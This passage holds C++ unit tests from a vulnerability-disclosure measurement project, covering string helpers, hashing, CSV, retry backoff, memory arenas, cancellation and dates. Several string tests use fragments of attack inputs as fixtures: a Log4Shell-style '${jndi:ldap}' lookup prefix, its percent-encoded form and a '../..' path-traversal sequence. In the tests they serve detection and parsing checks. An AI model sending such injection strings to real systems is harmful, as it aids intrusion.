  EXPECT_NE(csv_text.find("a,0,0"), std::string::npos);
  EXPECT_NE(csv_text.find("b,2,1"), std::string::npos);
  const std::string gp_text = slurp(directory_ / "fig_test.gp");
  EXPECT_NE(gp_text.find("set title \"Test figure\""), std::string::npos);
  EXPECT_NE(gp_text.find("fig_test.csv"), std::string::npos);
  EXPECT_NE(gp_text.find("set yrange [0:1]"), std::string::npos);
}

TEST_F(ExportTest, WritesTableMarkdown) {
  const fs::path path = write_table(directory_, "t1", "| a |\n");
  EXPECT_TRUE(fs::exists(path));
  EXPECT_EQ(slurp(path), "| a |\n");
}

TEST_F(ExportTest, ExportStudyProducesFullArtifactSet) {
  pipeline::StudyConfig config;
  config.seed = 5;
  config.event_scale = 0.02;
  config.background_per_day = 2.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  const auto study = pipeline::run_study(config);
  const auto written = export_study(directory_, study);
  ASSERT_GE(written.size(), 5u);
  for (const auto& path : written) {
    EXPECT_TRUE(fs::exists(path)) << path;
    EXPECT_GT(fs::file_size(path), 10u) << path;
  }
  EXPECT_TRUE(fs::exists(directory_ / "table4.md"));
  EXPECT_TRUE(fs::exists(directory_ / "fig07_exposure.csv"));
  EXPECT_TRUE(fs::exists(directory_ / "disclosure_artifacts.json"));
  // The JSON must parse back.
  const auto artifacts =
      parse_artifacts_document(slurp(directory_ / "disclosure_artifacts.json"));
  ASSERT_TRUE(artifacts.has_value());
  EXPECT_EQ(artifacts->size(), study.reconstruction.timelines.size());
}

}  // namespace
}  // namespace cvewb::report
