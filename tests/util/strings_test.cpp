#include "util/strings.h"

#include <gtest/gtest.h>

namespace cvewb::util {
namespace {

TEST(Strings, CaseConversion) {
  EXPECT_EQ(to_lower("HeLLo-123"), "hello-123");
  EXPECT_EQ(to_upper("HeLLo-123"), "HELLO-123");
}

TEST(Strings, IEquals) {
  EXPECT_TRUE(iequals("Content-Length", "content-length"));
  EXPECT_FALSE(iequals("foo", "fooo"));
  EXPECT_TRUE(iequals("", ""));
}

TEST(Strings, Trim) {
  EXPECT_EQ(trim("  x y \t\r\n"), "x y");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(trim("   "), "");
}

TEST(Strings, SplitKeepsEmptyFields) {
  const auto parts = split("a,,b,", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[1], "");
  EXPECT_EQ(parts[3], "");
}

TEST(Strings, SplitTrimDropsEmpties) {
  const auto parts = split_trim(" a , , b ", ',');
  ASSERT_EQ(parts.size(), 2u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[1], "b");
}

TEST(Strings, StartsEndsWith) {
  EXPECT_TRUE(starts_with("GET /", "GET "));
  EXPECT_FALSE(starts_with("GE", "GET "));
  EXPECT_TRUE(ends_with("file.rules", ".rules"));
  EXPECT_FALSE(ends_with("x", ".rules"));
}

TEST(Strings, IFind) {
  EXPECT_EQ(ifind("Hello ${JNDI:ldap}", "${jndi"), 6u);
  EXPECT_EQ(ifind("abc", "zz"), std::string_view::npos);
  EXPECT_EQ(ifind("aaa", "a", 1), 1u);
  EXPECT_EQ(ifind("abc", ""), 0u);
}

TEST(Strings, ReplaceAll) {
  EXPECT_EQ(replace_all("a.b.c", ".", "->"), "a->b->c");
  EXPECT_EQ(replace_all("xxx", "x", "xx"), "xxxxxx");  // no infinite loop
}

TEST(Strings, Join) {
  EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
  EXPECT_EQ(join({}, ","), "");
}

TEST(Strings, PercentDecode) {
  EXPECT_EQ(percent_decode("%2e%2e/%2E%2E"), "../..");
  EXPECT_EQ(percent_decode("%24%7Bjndi%3A"), "${jndi:");
  EXPECT_EQ(percent_decode("no-escapes"), "no-escapes");
  // Invalid escapes pass through verbatim (lenient-server behaviour).
  EXPECT_EQ(percent_decode("%zz%2"), "%zz%2");
}

}  // namespace
}  // namespace cvewb::util
