#include "util/strings.h"

#include <gtest/gtest.h>

namespace cvewb::util {
namespace {

TEST(Strings, CaseConversion) {
  EXPECT_EQ(to_lower("HeLLo-123"), "hello-123");
  EXPECT_EQ(to_upper("HeLLo-123"), "HELLO-123");
}

TEST(Strings, IEquals) {
  EXPECT_TRUE(iequals("Content-Length", "content-length"));
  EXPECT_FALSE(iequals("foo", "fooo"));
  EXPECT_TRUE(iequals("", ""));
}

TEST(Strings, Trim) {
  EXPECT_EQ(trim("  x y \t\r\n"), "x y");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(trim("   "), "");
}

TEST(Strings, SplitKeepsEmptyFields) {
  const auto parts = split("a,,b,", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[1], "");
  EXPECT_EQ(parts[3], "");
}

TEST(Strings, SplitTrimDropsEmpties) {
  const auto parts = split_trim(" a , , b ", ',');
  ASSERT_EQ(parts.size(), 2u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[1], "b");
}

TEST(Strings, StartsEndsWith) {
  EXPECT_TRUE(starts_with("GET /", "GET "));
  EXPECT_FALSE(starts_with("GE", "GET "));
  EXPECT_TRUE(ends_with("file.rules", ".rules"));
  EXPECT_FALSE(ends_with("x", ".rules"));
}

TEST(Strings, IFind) {
  EXPECT_EQ(ifind("Hello ${JNDI:ldap}", "${jndi"), 6u);
  EXPECT_EQ(ifind("abc", "zz"), std::string_view::npos);
  EXPECT_EQ(ifind("aaa", "a", 1), 1u);
  EXPECT_EQ(ifind("abc", ""), 0u);
}

TEST(Strings, ReplaceAll) {
  EXPECT_EQ(replace_all("a.b.c", ".", "->"), "a->b->c");
  EXPECT_EQ(replace_all("xxx", "x", "xx"), "xxxxxx");  // no infinite loop
}

TEST(Strings, Join) {
  EXPECT_EQ(join({"a", "b", "c"}, ", "), "a, b, c");
  EXPECT_EQ(join({}, ","), "");
}

TEST(Strings, PercentDecode) {
  EXPECT_EQ(percent_decode("%2e%2e/%2E%2E"), "../..");
  EXPECT_EQ(percent_decode("%24%7Bjndi%3A"), "${jndi:");
  EXPECT_EQ(percent_decode("no-escapes"), "no-escapes");
  // Invalid escapes pass through verbatim (lenient-server behaviour).
  EXPECT_EQ(percent_decode("%zz%2"), "%zz%2");
}

TEST(Strings, ParseI64AcceptsOnlyFullDecimalTokens) {
  std::int64_t v = -1;
  EXPECT_TRUE(parse_i64("0", v));
  EXPECT_EQ(v, 0);
  EXPECT_TRUE(parse_i64("-42", v));
  EXPECT_EQ(v, -42);
  EXPECT_TRUE(parse_i64("9223372036854775807", v));
  EXPECT_EQ(v, 9223372036854775807ll);
  EXPECT_TRUE(parse_i64("-9223372036854775808", v));

  v = 99;
  EXPECT_FALSE(parse_i64("", v));
  EXPECT_FALSE(parse_i64("12x", v));        // trailing garbage
  EXPECT_FALSE(parse_i64(" 12", v));        // leading whitespace
  EXPECT_FALSE(parse_i64("12 ", v));
  EXPECT_FALSE(parse_i64("0x10", v));       // no hex
  EXPECT_FALSE(parse_i64("1e3", v));        // no scientific notation
  EXPECT_FALSE(parse_i64("9223372036854775808", v));   // overflow
  EXPECT_FALSE(parse_i64("-9223372036854775809", v));  // underflow
  EXPECT_EQ(v, 99);  // failures leave `out` untouched
}

TEST(Strings, ParseU64RejectsAnyMinusSign) {
  std::uint64_t v = 7;
  EXPECT_TRUE(parse_u64("18446744073709551615", v));
  EXPECT_EQ(v, 18446744073709551615ull);
  // strtoull would wrap "-1" to 2^64-1; full-token parse must not.
  EXPECT_FALSE(parse_u64("-1", v));
  EXPECT_FALSE(parse_u64("-0", v));
  EXPECT_FALSE(parse_u64("18446744073709551616", v));  // overflow
  EXPECT_FALSE(parse_u64("", v));
  EXPECT_FALSE(parse_u64("3.5", v));
  EXPECT_EQ(v, 18446744073709551615ull);
}

TEST(Strings, ParseFiniteDoubleRejectsNonFiniteAndPartialTokens) {
  double v = -1;
  EXPECT_TRUE(parse_finite_double("0.25", v));
  EXPECT_DOUBLE_EQ(v, 0.25);
  EXPECT_TRUE(parse_finite_double("-3e2", v));
  EXPECT_DOUBLE_EQ(v, -300.0);

  v = 99;
  EXPECT_FALSE(parse_finite_double("", v));
  EXPECT_FALSE(parse_finite_double("3.5xyz", v));
  EXPECT_FALSE(parse_finite_double(" 1", v));
  // NaN defeats every later range check (all comparisons false), and
  // infinities defeat "finite budget" assumptions -- both are rejected
  // even though strtod parses them happily.
  EXPECT_FALSE(parse_finite_double("nan", v));
  EXPECT_FALSE(parse_finite_double("inf", v));
  EXPECT_FALSE(parse_finite_double("-inf", v));
  EXPECT_FALSE(parse_finite_double("1e999", v));  // ERANGE overflow
  EXPECT_EQ(v, 99);
}

}  // namespace
}  // namespace cvewb::util
