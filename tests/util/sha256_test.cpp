// FIPS 180-4 test vectors for the digest used by the corpus regression
// guard, plus streaming-equivalence checks.
#include "util/sha256.h"

#include <gtest/gtest.h>

#include <string>

namespace cvewb::util {
namespace {

TEST(Sha256, KnownVectors) {
  EXPECT_EQ(sha256_hex(""),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(sha256_hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256, MillionAs) {
  Sha256 hasher;
  const std::string chunk(1000, 'a');
  for (int i = 0; i < 1000; ++i) hasher.update(chunk);
  EXPECT_EQ(hasher.hex_digest(),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256, StreamingEqualsOneShot) {
  const std::string text = "The CVE Wayback Machine measures coordinated disclosure.";
  for (std::size_t split = 0; split <= text.size(); split += 7) {
    Sha256 hasher;
    hasher.update(text.substr(0, split));
    hasher.update(text.substr(split));
    EXPECT_EQ(hasher.hex_digest(), sha256_hex(text)) << "split at " << split;
  }
}

TEST(Sha256, PaddingBoundaries) {
  // Lengths that straddle the 55/56/64-byte padding edges.
  for (const std::size_t len : {55u, 56u, 57u, 63u, 64u, 65u}) {
    const std::string a(len, 'x');
    Sha256 hasher;
    hasher.update(a);
    EXPECT_EQ(hasher.hex_digest(), sha256_hex(a)) << len;
    EXPECT_NE(sha256_hex(a), sha256_hex(a + "y"));
  }
}

}  // namespace
}  // namespace cvewb::util
