// RetryPolicy backoff schedule: deterministic, monotone up to the cap, and
// overflow-proof for any attempt count a runaway loop could produce.
#include <gtest/gtest.h>

#include <chrono>
#include <limits>

#include "util/cancel.h"
#include "util/retry.h"

namespace cvewb {
namespace {

using std::chrono::microseconds;

TEST(RetryPolicy, DefaultScheduleDoublesUntilCap) {
  util::RetryPolicy policy;
  EXPECT_EQ(policy.delay(0), microseconds(500));
  EXPECT_EQ(policy.delay(1), microseconds(1000));
  EXPECT_EQ(policy.delay(2), microseconds(2000));
  EXPECT_EQ(policy.delay(10), microseconds(50'000));  // 500 * 2^10 > cap
  EXPECT_EQ(policy.delay(11), policy.backoff_cap);
}

TEST(RetryPolicy, LargeAttemptCountsPinToCapWithoutOverflow) {
  util::RetryPolicy policy;
  // Far past the point where multiplier^index overflows a double's
  // exponent range; the capped exponent must keep every value finite and
  // exactly equal to the cap.
  for (const int index : {64, 100, 1'000, 1'000'000, std::numeric_limits<int>::max()}) {
    EXPECT_EQ(policy.delay(index), policy.backoff_cap) << "retry_index=" << index;
  }
}

TEST(RetryPolicy, HugeCapNeverFeedsOutOfRangeCast) {
  // A cap at microseconds::max() used to make min(us, cap) round up to
  // 2^63 exactly, which is outside int64 -- UB on the cast.  The schedule
  // must instead return the cap itself once the product reaches it.
  util::RetryPolicy policy;
  policy.backoff_cap = microseconds::max();
  const auto d = policy.delay(std::numeric_limits<int>::max());
  EXPECT_EQ(d, policy.backoff_cap);
  EXPECT_GE(policy.delay(40), microseconds(0));
}

TEST(RetryPolicy, NegativeIndexAndDegenerateMultipliers) {
  util::RetryPolicy policy;
  EXPECT_EQ(policy.delay(-1), policy.delay(0));  // clamped, not UB

  policy.backoff_multiplier = 0.0;  // 0^0 == 1: first delay is the base
  EXPECT_EQ(policy.delay(0), policy.backoff_base);
  EXPECT_EQ(policy.delay(5), microseconds(0));

  policy.backoff_multiplier = -2.0;  // a negative product clamps to zero
  EXPECT_EQ(policy.delay(1), microseconds(0));
  EXPECT_GE(policy.delay(3).count(), 0);
}

TEST(RetryPolicy, ExponentCapIsPinned) {
  // The cap is part of the schedule contract: delays are identical for
  // every index at or past it.
  EXPECT_EQ(util::RetryPolicy::kMaxBackoffExponent, 63);
  util::RetryPolicy policy;
  policy.backoff_multiplier = 1.0;  // flat schedule: exponent irrelevant
  EXPECT_EQ(policy.delay(63), policy.delay(1'000'000));
}

TEST(RetryIo, StopsAfterBudgetAndHonorsCancel) {
  util::RetryPolicy policy;
  policy.max_retries = 3;
  policy.backoff_base = microseconds(0);

  int attempts = 0;
  int retries_seen = 0;
  const bool ok = util::retry_io(
      policy, nullptr,
      [&attempts] {
        ++attempts;
        return false;
      },
      [&retries_seen](int) { ++retries_seen; });
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 4);  // 1 + max_retries
  EXPECT_EQ(retries_seen, 3);

  util::CancelToken cancel;
  cancel.request_cancel();
  attempts = 0;
  const bool cancelled_ok = util::retry_io(
      policy, &cancel,
      [&attempts] {
        ++attempts;
        return false;
      },
      [](int) {});
  EXPECT_FALSE(cancelled_ok);
  EXPECT_EQ(attempts, 1);  // a fired token stops the loop before retry 0
}

}  // namespace
}  // namespace cvewb
