// Arena allocator semantics: the per-worker scratch arena behind the
// match pass.  The load-bearing properties are steady-state reuse (after
// reset(), repeated identical workloads perform zero further heap
// operations) and correctness of alignment / oversized handling, since
// parse views and decoded buffers live in this storage for a whole
// session's match.
#include "util/arena.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <cstring>
#include <string>

#include "chaos/resource_shim.h"
#include "util/memory_budget.h"

namespace cvewb::util {
namespace {

TEST(Arena, AllocationsAreDisjointAndWritable) {
  Arena arena;
  char* a = static_cast<char*>(arena.allocate(64));
  char* b = static_cast<char*>(arena.allocate(64));
  ASSERT_NE(a, nullptr);
  ASSERT_NE(b, nullptr);
  std::memset(a, 0xAA, 64);
  std::memset(b, 0xBB, 64);
  EXPECT_EQ(static_cast<unsigned char>(a[63]), 0xAA);
  EXPECT_EQ(static_cast<unsigned char>(b[0]), 0xBB);
  EXPECT_GE(arena.bytes_used(), std::size_t{128});
}

TEST(Arena, RespectsAlignment) {
  // The arena aligns offsets within max_align-aligned chunks, so any
  // alignment up to alignof(max_align_t) is honored (that is the contract;
  // nothing in the match path asks for more).
  Arena arena;
  (void)arena.allocate(1, 1);  // misalign the bump pointer
  void* p8 = arena.allocate(8, 8);
  EXPECT_EQ(reinterpret_cast<std::uintptr_t>(p8) % 8, 0u);
  (void)arena.allocate(3, 1);
  void* pmax = arena.allocate(16, alignof(std::max_align_t));
  EXPECT_EQ(reinterpret_cast<std::uintptr_t>(pmax) % alignof(std::max_align_t), 0u);
  double* d = arena.allocate_array<double>(4);
  EXPECT_EQ(reinterpret_cast<std::uintptr_t>(d) % alignof(double), 0u);
}

TEST(Arena, ZeroByteRequestYieldsAValidPointer) {
  Arena arena;
  void* p = arena.allocate(0);
  EXPECT_NE(p, nullptr);
  EXPECT_EQ(arena.allocation_count(), 1u);
}

TEST(Arena, CopyReturnsViewOfTheCopy) {
  Arena arena;
  std::string original = "GET /index.html HTTP/1.1";
  const std::string_view view = arena.copy(original);
  EXPECT_EQ(view, original);
  EXPECT_NE(view.data(), original.data());
  original[0] = 'X';  // the arena copy must be independent storage
  EXPECT_EQ(view[0], 'G');
}

TEST(Arena, OversizedRequestGetsDedicatedChunk) {
  Arena arena(1024);
  void* big = arena.allocate(64 * 1024);
  ASSERT_NE(big, nullptr);
  std::memset(big, 0x5C, 64 * 1024);
  EXPECT_GE(arena.bytes_reserved(), std::size_t{64 * 1024});
  // Small allocations keep working after an oversized one.
  void* small = arena.allocate(16);
  EXPECT_NE(small, nullptr);
}

TEST(Arena, ResetReusesStorageWithoutGrowingReservation) {
  Arena arena(4096);
  // Prime: allocate a representative workload, forcing chunk growth.
  for (int i = 0; i < 64; ++i) (void)arena.allocate(256);
  const std::size_t reserved = arena.bytes_reserved();
  const std::size_t chunks = arena.chunk_count();
  ASSERT_GT(chunks, 1u);

  // Steady state: identical workloads after reset() must bump through the
  // same chunks -- reservation and chunk count frozen.
  for (int round = 0; round < 50; ++round) {
    arena.reset();
    EXPECT_EQ(arena.bytes_used(), 0u);
    for (int i = 0; i < 64; ++i) (void)arena.allocate(256);
    EXPECT_EQ(arena.bytes_reserved(), reserved) << "round " << round;
    EXPECT_EQ(arena.chunk_count(), chunks) << "round " << round;
  }
}

TEST(Arena, ResetRewindsToTheFirstChunk) {
  Arena arena(1024);
  char* first = static_cast<char*>(arena.allocate(16));
  (void)arena.allocate(900);
  (void)arena.allocate(900);  // spills into a second chunk
  ASSERT_GE(arena.chunk_count(), 2u);
  arena.reset();
  // After rewind the next allocation comes from the front of chunk 0 --
  // the exact address the first allocation returned.
  char* again = static_cast<char*>(arena.allocate(16));
  EXPECT_EQ(first, again);
}

TEST(Arena, ReleaseFreesEverything) {
  Arena arena(1024);
  for (int i = 0; i < 16; ++i) (void)arena.allocate(512);
  ASSERT_GT(arena.bytes_reserved(), 0u);
  arena.release();
  EXPECT_EQ(arena.bytes_reserved(), 0u);
  EXPECT_EQ(arena.chunk_count(), 0u);
  // And the arena is still usable afterwards.
  EXPECT_NE(arena.allocate(64), nullptr);
}

TEST(Arena, AllocationCountTracksEverySuccess) {
  Arena arena(256);
  const std::uint64_t before = arena.allocation_count();
  for (int i = 0; i < 100; ++i) (void)arena.allocate(100);  // forces slow paths too
  EXPECT_EQ(arena.allocation_count(), before + 100);
}

// --- Resource-model hardening (DESIGN.md §15): chunk growth is a charged
// allocation; every failure mode is a structured ResourceExhausted.

TEST(Arena, HugeRequestIsRefusedUpFront) {
  Arena arena;
  EXPECT_THROW(arena.allocate(Arena::kMaxRequestBytes + 1), ResourceExhausted);
  // The refusal reserved nothing and the arena keeps working.
  EXPECT_EQ(arena.bytes_reserved(), 0u);
  EXPECT_NE(arena.allocate(64), nullptr);
}

TEST(Arena, ArrayCountOverflowIsRefused) {
  Arena arena;
  const std::size_t poisoned = Arena::kMaxRequestBytes / sizeof(double) + 1;
  EXPECT_THROW(arena.allocate_array<double>(poisoned), ResourceExhausted);
  EXPECT_NE(arena.allocate_array<double>(8), nullptr);
}

TEST(Arena, InjectedChunkFailureIsStructuredAndRecoverable) {
  chaos::ResourceFaultPlan plan;
  plan.fail_alloc_at = 1;  // the very first chunk growth fails
  chaos::ResourceShim shim(plan);
  chaos::ScopedResourceShim scope(shim);
  Arena arena;
  EXPECT_THROW(arena.allocate(64), ResourceExhausted);
  // One-shot injection: the next growth succeeds and the arena is intact.
  EXPECT_NE(arena.allocate(64), nullptr);
  EXPECT_EQ(shim.stats().injected_alloc_failures, 1u);
}

TEST(Arena, HardWatermarkRefusesChunkGrowthWithoutLeakingACharge) {
  const std::uint64_t baseline = MemoryBudget::process().charged();
  ScopedBudgetLimits limits(0, baseline + 4096);
  Arena arena(64 * 1024);  // any chunk would overshoot the hard watermark
  EXPECT_THROW(arena.allocate(100), ResourceExhausted);
  EXPECT_EQ(MemoryBudget::process().charged(), baseline);
  EXPECT_EQ(arena.chunk_count(), 0u);
}

TEST(Arena, ChunksShrinkUnderSoftPressureAndChargesBalance) {
  const std::uint64_t baseline = MemoryBudget::process().charged();
  ScopedBudgetLimits limits(1, 0);
  BudgetCharge pressure;
  ASSERT_TRUE(pressure.acquire(MemoryBudget::process(), 1));
  ASSERT_EQ(MemoryBudget::process().pressure(), MemoryBudget::Pressure::kSoft);
  Arena arena;  // default 64 KiB chunks when unpressured
  (void)arena.allocate(100);
  EXPECT_EQ(arena.bytes_reserved(), std::size_t{16 * 1024})
      << "soft pressure should cap fresh chunks at the reduced size";
  // The chunk is a charged owner; release() returns its ledger entry.
  EXPECT_EQ(MemoryBudget::process().charged(), baseline + 1 + 16 * 1024);
  arena.release();
  EXPECT_EQ(MemoryBudget::process().charged(), baseline + 1);
}

}  // namespace
}  // namespace cvewb::util
