// CancelToken concurrency: deadline latching raced against
// request_cancel() fired the way a signal handler fires it -- a bare
// relaxed store from another thread, with no synchronization beyond the
// token's own atomics.  Runs in the tsan-labelled suite so ThreadSanitizer
// audits every claim here.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <thread>
#include <vector>

#include "util/cancel.h"

namespace cvewb {
namespace {

using std::chrono::steady_clock;

TEST(CancelToken, FirstReasonWinsAndLatches) {
  util::CancelToken token;
  token.request_cancel(util::CancelReason::kUser);
  token.request_cancel(util::CancelReason::kDeadline);
  EXPECT_TRUE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kUser);
}

TEST(CancelToken, DeadlineExpiryLatchesAcrossDisarm) {
  util::CancelToken token;
  token.arm_deadline(steady_clock::now() - std::chrono::milliseconds(1));
  EXPECT_TRUE(token.cancelled());  // observes and latches the expiry
  token.disarm_deadline();
  EXPECT_TRUE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kDeadline);
}

TEST(CancelToken, UnobservedExpiryIsLostOnDisarm) {
  // The documented latch contract is observation-based: a deadline nobody
  // polled before disarm never fires.  (StageScope guarantees the poll in
  // its destructor.)
  util::CancelToken token;
  token.arm_deadline(steady_clock::now() - std::chrono::milliseconds(1));
  token.disarm_deadline();
  EXPECT_FALSE(token.cancelled());
}

// The cancel-vs-deadline race: an already-expired deadline is being
// observed (and latched) by a crowd of poller threads while another thread
// fires request_cancel(kUser) the way a signal handler would.  Exactly one
// reason must win, every observer must agree on it forever after, and the
// whole exchange must be clean under TSan.
TEST(CancelToken, ConcurrentUserCancelVersusExpiredDeadline) {
  for (int round = 0; round < 200; ++round) {
    util::CancelToken token;
    token.arm_deadline(steady_clock::now() - std::chrono::microseconds(1));

    std::atomic<bool> go{false};
    std::vector<std::thread> pollers;
    std::vector<util::CancelReason> first_seen(4, util::CancelReason::kNone);
    pollers.reserve(first_seen.size());
    for (std::size_t i = 0; i < first_seen.size(); ++i) {
      pollers.emplace_back([&token, &go, &first_seen, i] {
        while (!go.load(std::memory_order_acquire)) {
        }
        while (!token.cancelled()) {
        }
        first_seen[i] = token.reason();
      });
    }
    std::thread canceller([&token, &go] {
      while (!go.load(std::memory_order_acquire)) {
      }
      token.request_cancel(util::CancelReason::kUser);  // signal-handler-like
    });

    go.store(true, std::memory_order_release);
    for (auto& t : pollers) t.join();
    canceller.join();

    const util::CancelReason winner = token.reason();
    ASSERT_TRUE(winner == util::CancelReason::kUser || winner == util::CancelReason::kDeadline);
    for (const auto seen : first_seen) {
      // Whoever won the CAS won it for everyone: no observer may have seen
      // a different reason, and the latch never reverts.
      EXPECT_EQ(seen, winner);
    }
    EXPECT_TRUE(token.cancelled());
    EXPECT_EQ(token.reason(), winner);
  }
}

// Hammer request_cancel from several threads while another arms/disarms
// deadlines: reason must transition kNone -> fired exactly once and stay.
TEST(CancelToken, ConcurrentCancelAndRearmNeverReverts) {
  util::CancelToken token;
  std::atomic<bool> stop{false};

  std::thread armer([&token, &stop] {
    while (!stop.load(std::memory_order_acquire)) {
      token.arm_deadline(steady_clock::now() + std::chrono::seconds(60));
      token.disarm_deadline();
    }
  });
  std::vector<std::thread> cancellers;
  for (int i = 0; i < 3; ++i) {
    cancellers.emplace_back([&token] {
      for (int j = 0; j < 1000; ++j) token.request_cancel(util::CancelReason::kUser);
    });
  }
  for (auto& t : cancellers) t.join();
  stop.store(true, std::memory_order_release);
  armer.join();

  EXPECT_TRUE(token.cancelled());
  EXPECT_EQ(token.reason(), util::CancelReason::kUser);
  EXPECT_THROW(token.check("test"), util::CancelledError);
}

}  // namespace
}  // namespace cvewb
