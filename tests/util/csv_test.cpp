#include "util/csv.h"

#include <gtest/gtest.h>

#include <sstream>

namespace cvewb::util {
namespace {

TEST(Csv, EscapesSpecialCharacters) {
  EXPECT_EQ(csv_escape("plain"), "plain");
  EXPECT_EQ(csv_escape("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_escape("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_escape("line\nbreak"), "\"line\nbreak\"");
}

TEST(Csv, WritesRows) {
  std::ostringstream out;
  CsvWriter csv(out);
  csv.field("cve").field("events").field("rate");
  csv.end_row();
  csv.field("CVE-2021-44228").field(std::int64_t{6254}).field(0.95, 3);
  csv.end_row();
  EXPECT_EQ(out.str(), "cve,events,rate\nCVE-2021-44228,6254,0.95\n");
}

TEST(Csv, RowHelper) {
  std::ostringstream out;
  CsvWriter csv(out);
  csv.row({"a,b", "c"});
  EXPECT_EQ(out.str(), "\"a,b\",c\n");
}

TEST(Csv, ParsesLineWithQuoting) {
  const auto fields = parse_csv_line("a,\"b,c\",\"say \"\"hi\"\"\",");
  ASSERT_TRUE(fields.has_value());
  ASSERT_EQ(fields->size(), 4u);
  EXPECT_EQ((*fields)[0], "a");
  EXPECT_EQ((*fields)[1], "b,c");
  EXPECT_EQ((*fields)[2], "say \"hi\"");
  EXPECT_EQ((*fields)[3], "");
}

TEST(Csv, ParsesEmbeddedNewlinesInQuotedFields) {
  // RFC 4180 §2.6: a quoted field may span records.
  const auto rows = parse_csv("a,\"line\nbreak\",c\r\nd,\"x\r\ny\",f\n");
  ASSERT_TRUE(rows.has_value());
  ASSERT_EQ(rows->size(), 2u);
  EXPECT_EQ((*rows)[0], (std::vector<std::string>{"a", "line\nbreak", "c"}));
  EXPECT_EQ((*rows)[1], (std::vector<std::string>{"d", "x\r\ny", "f"}));
}

TEST(Csv, RejectsMalformedQuoting) {
  EXPECT_FALSE(parse_csv_line("a,\"unterminated").has_value());
  EXPECT_FALSE(parse_csv("a,\"open\nstill open").has_value());
  EXPECT_FALSE(parse_csv_line("a,\"b\"c").has_value());
}

TEST(Csv, RoundTripsThroughEscapeAndWriter) {
  // Every awkward field must survive csv_escape -> parse_csv intact,
  // including quotes, separators, CRLF, and leading/trailing whitespace.
  const std::vector<std::vector<std::string>> rows = {
      {"plain", "a,b", "say \"hi\""},
      {"line\nbreak", "crlf\r\nfield", ""},
      {" leading", "trailing ", "\"\""},
      {"multi\n\nblank\nlines", ",", "\n"},
  };
  std::ostringstream out;
  CsvWriter csv(out);
  for (const auto& row : rows) csv.row(row);
  const auto parsed = parse_csv(out.str());
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, rows);

  // And field-by-field against csv_escape directly.
  for (const auto& row : rows) {
    for (const auto& field : row) {
      const auto back = parse_csv_line(csv_escape(field));
      ASSERT_TRUE(back.has_value()) << field;
      ASSERT_EQ(back->size(), 1u) << field;
      EXPECT_EQ((*back)[0], field);
    }
  }
}

}  // namespace
}  // namespace cvewb::util
