#include "util/csv.h"

#include <gtest/gtest.h>

#include <sstream>

namespace cvewb::util {
namespace {

TEST(Csv, EscapesSpecialCharacters) {
  EXPECT_EQ(csv_escape("plain"), "plain");
  EXPECT_EQ(csv_escape("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_escape("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_escape("line\nbreak"), "\"line\nbreak\"");
}

TEST(Csv, WritesRows) {
  std::ostringstream out;
  CsvWriter csv(out);
  csv.field("cve").field("events").field("rate");
  csv.end_row();
  csv.field("CVE-2021-44228").field(std::int64_t{6254}).field(0.95, 3);
  csv.end_row();
  EXPECT_EQ(out.str(), "cve,events,rate\nCVE-2021-44228,6254,0.95\n");
}

TEST(Csv, RowHelper) {
  std::ostringstream out;
  CsvWriter csv(out);
  csv.row({"a,b", "c"});
  EXPECT_EQ(out.str(), "\"a,b\",c\n");
}

}  // namespace
}  // namespace cvewb::util
