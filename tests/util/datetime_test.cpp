#include "util/datetime.h"

#include <gtest/gtest.h>

namespace cvewb::util {
namespace {

TEST(DaysFromCivil, EpochIsZero) { EXPECT_EQ(days_from_civil(1970, 1, 1), 0); }

TEST(DaysFromCivil, KnownDates) {
  EXPECT_EQ(days_from_civil(1970, 1, 2), 1);
  EXPECT_EQ(days_from_civil(1969, 12, 31), -1);
  EXPECT_EQ(days_from_civil(2000, 3, 1), 11017);
  EXPECT_EQ(days_from_civil(2021, 12, 10), 18971);  // Log4Shell publication
}

TEST(DaysFromCivil, LeapYearHandling) {
  // 2020 is a leap year, 2100 is not.
  EXPECT_EQ(days_from_civil(2020, 3, 1) - days_from_civil(2020, 2, 28), 2);
  EXPECT_EQ(days_from_civil(2100, 3, 1) - days_from_civil(2100, 2, 28), 1);
  EXPECT_EQ(days_from_civil(2000, 3, 1) - days_from_civil(2000, 2, 28), 2);  // 400-rule
}

TEST(CivilRoundTrip, AllDaysInStudyEra) {
  // Property: civil_from_days inverts days_from_civil across 1990-2040.
  for (std::int64_t day = days_from_civil(1990, 1, 1); day <= days_from_civil(2040, 1, 1);
       ++day) {
    const Civil c = civil_from_days(day);
    ASSERT_EQ(days_from_civil(c.year, c.month, c.day), day) << "day " << day;
  }
}

TEST(ParseDate, DateOnly) {
  const auto t = parse_date("2021-12-10");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(format_date(*t), "2021-12-10");
  EXPECT_EQ(to_civil(*t).hour, 0);
}

TEST(ParseDate, DateTime) {
  const auto t = parse_date("2021-12-10T19:30:05Z");
  ASSERT_TRUE(t.has_value());
